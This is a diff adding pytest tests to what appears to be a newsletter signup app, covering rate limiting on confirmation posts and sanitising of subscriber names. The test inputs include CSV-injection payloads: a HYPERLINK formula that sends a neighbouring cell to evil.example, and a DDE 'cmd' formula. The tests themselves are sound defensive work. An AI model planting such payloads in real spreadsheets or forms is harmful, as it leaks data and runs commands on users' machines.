@@ -692,3 +692,79 @@ def test_a_flood_of_signups_waits_in_a_bounded_queue(
     provider.release.set()
     settle(client)
     assert len(provider.sent) == signup.MAX_QUEUED + 1  # the one held, and the queue
+
+
+def test_confirm_posts_are_limited_per_client(tmp_path: Path) -> None:
+    # POST /confirm reads and rewrites the subscriber files: a client replaying a link (or
+    # many links) is held to serve.per_client a minute; a GET (mail scanners) reads no file
+    PAGE_LIMIT = 5
+    pub = signup_publication(tmp_path / "pub", f"serve:\n  per_client: {PAGE_LIMIT}\n")
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("cy@example.org", "", ["weekly"])
+    for _ in range(PAGE_LIMIT):
+        assert client.post("/confirm", data={"t": t}).status_code == 200
+    r = client.post("/confirm", data={"t": t})
+    assert r.status_code == 429
+    assert "cy@example.org" not in r.get_data(as_text=True)
+    assert client.get(f"/confirm?t={t}").status_code == 200
+
+
+def test_per_client_zero_turns_the_page_limit_off(tmp_path: Path) -> None:
+    pub = signup_publication(tmp_path / "pub", "serve:\n  per_client: 0\n")
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("cy@example.org", "", ["weekly"])
+    assert all(client.post("/confirm", data={"t": t}).status_code == 200 for _ in range(150))
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("https://evil.example/?"&A2,"Ada")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        " \t=1+1",
+        "= =@1",
+    ],
+)
+def test_a_name_from_the_form_is_no_spreadsheet_formula(pub: Config, typed: str) -> None:
+    # subscribers.csv is meant to be opened in a spreadsheet: a name written there as typed
+    # ran as a formula on the publisher's machine (a link carrying the row next to it)
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    subscribe(client, "eve@example.org", name=typed)
+    token = link(mails(pub)[0], "confirm")
+    assert client.post("/confirm", data={"t": token}).status_code == 200
+    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
+        [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
+    assert row["name"] and row["name"][0] not in "=+-@ \t"
+    assert row["name"] in typed  # only the start went
+    # and through /preferences
+    prefs = tokens.Signer(SECRET).preferences.token("eve@example.org")
+    client.post(f"/preferences?t={prefs}", data={"list": "weekly", "name": typed})
+    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
+        [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
+    assert row["name"] and row["name"][0] not in "=+-@ \t"
+
+
+def test_a_link_made_before_the_name_rules_is_cleaned_at_confirmation(pub: Config) -> None:
+    # confirmation links live for days: one made by an older version carries the name as
+    # typed, and confirming wrote it into subscribers.csv as it was
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    old = tokens.ReaderTokens(SECRET, lambda: T0).confirm(
+        "eve@example.org", '=HYPERLINK("https://evil.example/?"&A2)\x07', ["weekly"]
+    )
+    assert client.post("/confirm", data={"t": old}).status_code == 200
+    assert rows(pub)["eve@example.org"]["name"] == 'HYPERLINK("https://evil.example/?"&A2)'
+
+
+def test_a_link_whose_address_the_checker_now_refuses_is_a_400_not_a_500(pub: Config) -> None:
+    # a link made before the address checker changed (an email-validator upgrade, links live
+    # for days) named an address that confirming could not normalise: a 500
+    before = snapshot(pub)
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("odd@@example.org", "", ["weekly"])
+    assert client.get(f"/confirm?t={t}").status_code == 400  # no button that would fail
+    r = client.post("/confirm", data={"t": t})
+    assert r.status_code == 400
+    assert "Something went wrong" not in r.get_data(as_text=True)
+    assert snapshot(pub) == before
